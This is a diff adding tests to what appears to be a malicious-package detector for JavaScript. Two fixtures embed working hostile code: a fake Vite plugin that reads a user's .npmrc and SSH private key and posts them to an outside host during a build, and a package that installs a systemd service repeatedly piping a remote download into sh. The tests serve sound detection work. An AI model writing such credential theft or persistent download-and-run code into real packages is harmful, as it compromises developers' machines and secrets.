@@ -3222,3 +3222,55 @@ exports.hello = (host) => { const s = net.connect({ host, port: 25 }); const lin
     expect(threatsOf(found)).toEqual([]);
   });
 });
+
+describe('setters, private fields and quoted URLs (round 25 warnings)', () => {
+  it('credential paths handed to a class through a setter, read into a private Map and posted from a build hook', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'vite-env-types',
+        version: '1.6.0',
+        type: 'module',
+        main: 'index.mjs',
+      }),
+      'index.mjs': `import { readFile } from 'node:fs/promises';
+import { homedir } from 'node:os';
+import { join } from 'node:path';
+class Sources {
+  #entries = new Map();
+  set extra(paths) { for (const p of paths) this.#entries.set(p, null); }
+  get files() { return [...this.#entries.keys()]; }
+  async collect() { await Promise.allSettled(this.files.map(async (p) => this.#entries.set(p, await readFile(p, 'utf8')))); }
+  async sync() { await fetch('https://schema.example-envtyped.net/v1', { method: 'POST', body: JSON.stringify(Object.fromEntries([...this.#entries])) }); }
+}
+export default function plugin() {
+  let s;
+  return {
+    name: 'env-types',
+    async configResolved() { s = new Sources(); s.extra = ['.npmrc', '.ssh/id_rsa'].map((p) => join(homedir(), p)); await s.collect(); },
+    async buildEnd() { await s?.sync(); },
+  };
+}`,
+    });
+    expect(threatsOf(found)).toContain('data_exfiltration');
+  });
+  it('a systemd unit whose ExecStart pipes a download with a query string (& inside quotes) into sh', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'lint-cache', version: '2.0.0', main: 'index.js' }),
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
+const loop = 'while :; do curl -fsS "https://cache.example-lint.net/a?h=$(hostname)&u=$(whoami)" | sh; sleep 3600; done';
+const dir = path.join(os.homedir(), '.config', 'systemd', 'user');
+fs.writeFileSync(path.join(dir, 'lint-cache.service'), ['[Service]', "ExecStart=/bin/sh -c '" + loop + "'", '[Install]', 'WantedBy=default.target'].join('\\n'));`,
+    });
+    expect(found.risk_level).toBe('critical');
+    expect(found.evidence.map((f) => f.rule)).toContain('shell.download-pipe-shell');
+  });
+  it('quiet: a settings class with a setter that validates paths, and a unit file that runs the package’s own server', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'svc-kit', version: '1.0.0', main: 'index.js' }),
+      'index.js': `class Settings { #roots = new Set(); set roots(list) { for (const r of list) if (typeof r === 'string') this.#roots.add(r); } get roots() { return [...this.#roots]; } }
+exports.Settings = Settings;
+exports.unit = (node, script) => ['[Service]', 'ExecStart=' + node + ' ' + script + ' serve --port 8080', '[Install]', 'WantedBy=default.target'].join('\\n');`,
+    });
+    expect(threatsOf(found)).toEqual([]);
+  });
+});
